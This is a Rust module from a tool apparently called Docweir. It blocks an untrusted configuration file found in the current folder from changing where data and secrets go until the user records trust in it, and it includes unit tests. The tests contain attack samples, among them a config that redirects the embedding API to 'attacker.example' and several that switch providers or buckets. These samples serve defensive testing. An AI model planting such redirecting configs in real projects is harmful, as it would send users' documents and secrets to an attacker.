//! Decides whether a configuration that was found in the current folder may choose where data goes.
//!
//! A folder may come from a stranger. A `docweir.toml` in this folder could send every passage and a secret from the
//! environment to the stranger's server, or make Docweir download a harmful package. A file that was found in the
//! current folder may therefore change sensitive keys only if the user has trusted exactly this file. The command
//! `docweir config trust` records this trust in the user's configuration folder, as direnv does. The record consists
//! of the file's path and hash. A file that the user names by `--config` or `DOCWEIR_CONFIG` needs no record.

use std::collections::BTreeMap;
use std::io::Write;
use std::os::unix::fs::DirBuilderExt;
use std::path::{Component, Path, PathBuf};

use docweir_core::documents::Sha256Hex;
use docweir_core::files::is_own;

use super::layers::{Layers, Origin};

/// Sensitive sections and keys. They decide where texts, vectors or secrets are sent, or which files and programs are
/// fetched.
const SENSITIVE: &[&str] = &[
    "aws",
    "buckets",
    "cloudwatch",
    "dynamodb",
    "embed.mode",
    "embed.options.model",
    "embed.options.openai",
    "embed.options.provider",
    "enrich.options.comprehend",
    "enrich.options.provider",
    "http",
    "queues",
    "records.table",
    "s3",
    "secrets",
    "state.backend",
    "state.control",
    "state.group_access",
    "state.objects",
];

/// Path, below the user's configuration folder, of the file that contains the records of trust.
const RECORDS: &str = "docweir/trusted.json";

/// Holds the user's records of trust: canonical paths of configuration files, each with the SHA-256 of its text.
#[derive(Clone, Debug)]
pub struct Trust {
    /// Path of the file with the records. `None` if neither `XDG_CONFIG_HOME` nor `HOME` is an absolute path.
    records: Option<PathBuf>,
}

impl Trust {
    /// Locates the records below `$XDG_CONFIG_HOME`, or below `~/.config`.
    pub fn of(environment: &[(String, String)]) -> Self {
        let absolute = |name: &str| {
            let value = environment.iter().find(|(n, _)| n == name).map(|(_, value)| PathBuf::from(value));
            value.filter(|path| path.is_absolute())
        };
        let folder = absolute("XDG_CONFIG_HOME").or_else(|| Some(absolute("HOME")?.join(".config")));
        Self { records: folder.map(|folder| folder.join(RECORDS)) }
    }

    /// Returns whether the user has trusted this file with this text. A file of another user is never trusted.
    pub fn covers(&self, file: &Path, text: &str) -> bool {
        let own = std::fs::metadata(file).is_ok_and(|meta| is_own(&meta));
        let Ok(path) = file.canonicalize() else { return false };
        own && self.read().get(path.to_string_lossy().as_ref()) == Some(&Sha256Hex::of(text.as_bytes()).to_string())
    }

    /// Records that the user trusts this file with this text. Returns the canonical path of the file.
    ///
    /// # Errors
    /// Returns a message for the user if the file belongs to somebody else, or if the record cannot be written.
    pub fn add(&self, file: &Path, text: &str) -> Result<PathBuf, String> {
        let Some(records) = &self.records else {
            return Err("neither XDG_CONFIG_HOME nor HOME is set; set one of them".into());
        };
        let path = file.canonicalize().map_err(|e| format!("{}: {e}", file.display()))?;
        let meta = std::fs::metadata(&path).map_err(|e| format!("{}: {e}", path.display()))?;
        if !is_own(&meta) {
            return Err(format!(
                "{} belongs to another user; make a copy of your own, check the copy, and trust the copy",
                path.display()
            ));
        }
        let mut known = match std::fs::read(records) {
            Ok(bytes) => serde_json::from_slice(&bytes)
                .map_err(|e| format!("cannot read {}: {e}; correct or delete it", records.display()))?,
            Err(e) if e.kind() == std::io::ErrorKind::NotFound => BTreeMap::new(),
            Err(e) => return Err(format!("cannot read {}: {e}", records.display())),
        };
        known.insert(path.to_string_lossy().into_owned(), Sha256Hex::of(text.as_bytes()).to_string());
        write(records, &known).map_err(|e| format!("cannot write {}: {e}", records.display()))?;
        Ok(path)
    }

    fn read(&self) -> BTreeMap<String, String> {
        let bytes = self.records.as_ref().and_then(|path| std::fs::read(path).ok());
        bytes.and_then(|bytes| serde_json::from_slice(&bytes).ok()).unwrap_or_default()
    }
}

/// Replaces the file of records in one step, so that no reader sees an incomplete file.
fn write(path: &Path, records: &BTreeMap<String, String>) -> std::io::Result<()> {
    let folder = path.parent().unwrap_or(Path::new("/"));
    std::fs::DirBuilder::new().recursive(true).mode(0o700).create(folder)?;
    let mut file = tempfile::NamedTempFile::new_in(folder)?;
    file.write_all(&serde_json::to_vec_pretty(records)?)?;
    file.as_file().sync_all()?;
    file.persist(path)?;
    Ok(())
}

/// Returns whether a path is not below the current folder.
fn leaves_folder(value: &toml::Value) -> bool {
    let path = Path::new(value.as_str().unwrap_or_default());
    let is_below = path.components().all(|part| matches!(part, Component::Normal(_) | Component::CurDir));
    // A link could lead to another folder all the same. The folder need not exist yet.
    let leads_away = || {
        let (here, real) = (Path::new(".").canonicalize(), path.canonicalize());
        matches!((here, real), (Ok(here), Ok(real)) if !real.starts_with(&here))
    };
    !is_below || leads_away()
}

/// Returns whether a list contains a key or one of the sections around the key.
fn is_listed(list: &[&str], key: &str) -> bool {
    list.iter().any(|name| key.strip_prefix(name).is_some_and(|rest| rest.is_empty() || rest.starts_with('.')))
}

/// Adds a problem for each sensitive key that an untrusted file sets to a value other than the default.
pub fn refuse(layers: &mut Layers, defaults: &Layers) {
    let changed = |key: &str, value: &toml::Value| defaults.get(key).is_none_or(|(default, _)| default != value);
    let found: Vec<_> = layers
        .iter()
        .filter(|(key, value, origin)| {
            let is_outside = *key == "state.folder" && leaves_folder(value);
            matches!(origin, Origin::File { .. }) && (is_listed(SENSITIVE, key) || is_outside) && changed(key, value)
        })
        .map(|(key, _, origin)| (key.to_owned(), origin.clone()))
        .collect();
    for (key, origin) in found {
        let text = "decides where data or secrets go, and this file was found in the current folder; read the file, then \
                    run `docweir config trust`, or name the file with --config";
        layers.problem(origin, &key, text.to_owned());
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::config::{Config, Source, defaults};

    fn environment(home: &Path) -> Vec<(String, String)> {
        vec![("HOME".into(), home.display().to_string())]
    }

    #[test]
    fn every_sensitive_name_is_a_key_or_a_section() {
        let layers = Layers::new(&defaults());
        for name in SENSITIVE {
            assert!(layers.iter().any(|(key, ..)| is_listed(&[name], key)), "{name}");
        }
        // A new section has to be put into one of the two lists.
        let harmless = [
            "batch",
            "budget",
            "cache",
            "chunk",
            "compaction",
            "control",
            "copies",
            "docweir_config",
            "doctor",
            "drain",
            "embed.deadline_seconds",
            "embed.options.batch",
            "embed.options.hashed_dimensions",
            "embed.options.hashed_milliseconds",
            "embed.queue_bytes",
            "embed.queue_documents",
            "embed.workers",
            "enrich",
            "extract",
            "intake",
            "lease",
            "load",
            "log",
            "objects",
            "prices",
            "quarantine",
            "records",
            "restart",
            "retention",
            "retry",
            "search",
            "state.collection",
            "state.folder",
            "vectors",
        ];
        for (key, ..) in layers.iter() {
            assert!(
                is_listed(SENSITIVE, key) || is_listed(&harmless, key),
                "is `{key}` harmless in a file of a stranger?"
            );
        }
    }

    #[test]
    fn a_found_file_may_not_redirect_data_until_it_is_trusted() {
        let (home, folder) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
        let path = folder.path().join("docweir.toml");
        let source = Source::Folder(folder.path().to_owned());
        let load = || Config::load(&source, environment(home.path()), Vec::new());
        let attack =
            "[embed.options.openai]\nbase_url = \"https://attacker.example/v1\"\napi_key_variable = \"OTHER\"\n";
        std::fs::write(&path, attack).unwrap();
        let problems = load().unwrap_err().to_string();
        for part in
            [":2: `embed.options.openai.base_url`", ":3: `embed.options.openai.api_key_variable`", "config trust"]
        {
            assert!(problems.contains(part), "{part} is not in {problems}");
        }
        // Named by the user, the same file is read.
        Config::load(&Source::Named(path.clone()), environment(home.path()), Vec::new()).unwrap();
        let trust = Trust::of(&environment(home.path()));
        trust.add(&path, attack).unwrap();
        assert_eq!(load().unwrap().settings.embed.options.openai.api_key_variable, "OTHER");
        // A change needs a new record.
        std::fs::write(&path, attack.replace("OTHER", "MY_OTHER_SECRET")).unwrap();
        assert!(load().is_err());
        // So does a copy in another folder.
        std::fs::write(&path, attack).unwrap();
        let other = tempfile::tempdir().unwrap();
        std::fs::copy(&path, other.path().join("docweir.toml")).unwrap();
        let copied = Source::Folder(other.path().to_owned());
        assert!(Config::load(&copied, environment(home.path()), Vec::new()).is_err());
    }

    /// Attacks with keys that send texts to a provider or to another place, where the user has exported a key.
    #[test]
    fn a_found_file_may_not_switch_the_destination() {
        let folder = tempfile::tempdir().unwrap();
        let attacks = [
            "[embed.options]\nprovider = \"openai\"",
            "[enrich.options]\nprovider = \"comprehend\"",
            "[state]\nbackend = \"aws\"\n[buckets]\nartefacts = \"attackers\"",
            "[state]\ngroup_access = true",
            "[cloudwatch]\nmode = \"api\"",
            "[dynamodb]\ncontrol_table = \"other\"",
            "[records.table]\nname = \"customers\"",
        ];
        for attack in attacks {
            std::fs::write(folder.path().join("docweir.toml"), attack).unwrap();
            let problems = Config::load(&Source::Folder(folder.path().to_owned()), [], Vec::new()).unwrap_err();
            assert!(problems.to_string().contains("config trust"), "{attack}: {problems}");
        }
    }

    #[test]
    fn harmless_keys_and_defaults_need_no_trust() {
        let folder = tempfile::tempdir().unwrap();
        let text = "[search]\ntop = 7\n[state]\nfolder = \"./index\"\n[embed.options.openai]\nbase_url = \"https://api.openai.com/v1\"\n";
        std::fs::write(folder.path().join("docweir.toml"), text).unwrap();
        let config = Config::load(&Source::Folder(folder.path().to_owned()), [], Vec::new()).unwrap();
        assert_eq!((config.settings.search.top, config.found), (7, true));
        for outside in ["/home/other/.docweir", "../other", "a/../../b"] {
            std::fs::write(folder.path().join("docweir.toml"), format!("[state]\nfolder = \"{outside}\"\n")).unwrap();
            assert!(Config::load(&Source::Folder(folder.path().to_owned()), [], Vec::new()).is_err(), "{outside}");
        }
    }
}
